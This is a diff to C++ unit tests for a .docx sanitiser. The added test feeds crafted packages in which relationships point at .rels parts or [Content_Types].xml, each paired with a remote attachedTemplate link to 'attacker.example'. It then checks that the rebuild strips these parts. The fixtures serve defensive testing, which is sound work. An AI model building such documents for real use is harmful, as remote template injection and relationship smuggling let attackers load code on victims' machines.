@@ -15,6 +15,7 @@
 #include <fstream>
 #include <iterator>
 #include <map>
+#include <set>
 #include <string>
 #include <string_view>
 #include <utility>
@@ -1205,6 +1206,58 @@ TEST_SUITE("ooxml") {
     CHECK(d->starts_with(crlf));
     CHECK(d->back() == '>');
     CHECK(o.bytes.find(packed["word/document.xml"]) == std::string::npos);
+  }
+
+  TEST_CASE("ooxml: a relationship to a .rels part or [Content_Types].xml is dropped") {
+    // OPC forbids both as relationship targets. Reached as a part, a .rels written in Office's
+    // layout would come out of the rebuild unchanged — and be written beside the rebuilt .rels
+    // under the same name, carrying every relationship the rebuild removed.
+    const std::string r = kR;
+    const std::string crlf = std::string(kDecl) + "\r\n";
+    const auto officeRels = [&](const std::vector<std::vector<std::string>>& rows) {
+      return crlf + rels(rows).substr(std::string(kDecl).size());
+    };
+    struct Row {
+      const char* name;
+      std::string rootRels, docRels;
+    };
+    const std::vector<Row> rows = {
+        {"the document's own .rels",
+         officeRels({{"rId1", r + "officeDocument", "word/document.xml"}}),
+         officeRels({{"rId1", r + "styles", "_rels/document.xml.rels"},
+                     {"rId2", r + "attachedTemplate", "http://attacker.example/t.dotm", "x"}})},
+        {"[Content_Types].xml",
+         officeRels({{"rId1", r + "officeDocument", "word/document.xml"}}),
+         officeRels({{"rId1", r + "styles", "/[Content_Types].xml"},
+                     {"rId2", r + "attachedTemplate", "http://attacker.example/t.dotm", "x"}})},
+        {"the root .rels",
+         officeRels({{"rId1", r + "officeDocument", "word/document.xml"},
+                     {"rId2", "http://schemas.openxmlformats.org/package/2006/relationships/"
+                              "metadata/core-properties", "_rels/.rels"},
+                     {"rId3", r + "attachedTemplate", "http://attacker.example/t.dotm", "x"}}),
+         officeRels({})},
+    };
+    for (const Row& row : rows) {
+      const std::string rowName = row.name;
+      CAPTURE(rowName);
+      const Files files = {
+          {"[Content_Types].xml",
+           contentTypes("application/vnd.openxmlformats-officedocument.wordprocessingml."
+                        "document.main+xml",
+                        "word/document.xml")},
+          {"_rels/.rels", row.rootRels},
+          {"word/document.xml", wordDoc("<w:p>" + run_("本文") + "</w:p>")},
+          {"word/_rels/document.xml.rels", row.docRels},
+      };
+      const PartOutput o = run(makeZip(files), "docx", "a.docx");
+      REQUIRE_MESSAGE(o.disposition == Disposition::Rebuilt, o.reason);
+      const Files out = readZip(o.bytes);
+      std::set<std::string> names;
+      for (const auto& f : out) CHECK_MESSAGE(names.insert(lowered(f.first)).second, f.first);
+      for (const auto& f : out) CHECK_MESSAGE(f.second.find("attacker") == std::string::npos, f.first);
+      CHECK(activeContent(out).empty());
+      CHECK(hasFinding(o, "ooxml.part_removed"));
+    }
   }
 
   TEST_CASE("ooxml: an entry whose data disagrees with its headers removes the file") {
